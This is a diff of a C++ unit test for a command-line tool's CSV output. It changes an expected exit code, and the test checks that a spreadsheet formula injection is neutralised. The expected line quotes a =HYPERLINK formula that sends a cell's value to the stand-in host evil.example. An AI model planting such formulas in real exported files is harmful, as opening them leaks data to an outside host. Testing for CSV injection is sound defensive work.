@@ -132,7 +132,7 @@ TEST(CsvOutputCli, DecideNeutralisesOrderIdsLinesAndListedPartyNames) {
   const Files f = write_inputs();
   auto r = run_cli("decide --orders " + f.orders + " --catalog " + f.catalog + " --lists " + f.list +
                    " --format csv --rules " + test::rules_dir());
-  ASSERT_EQ(r.exit_code, 0) << r.err;
+  ASSERT_EQ(r.exit_code, 3) << r.err;
   const auto lines = lines_of(r.out);
   ASSERT_EQ(lines.size(), 4u) << r.out;
   EXPECT_EQ(lines[1].rfind(R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""x"")",1,2026-11-25,-7,)csv", 0), 0u)
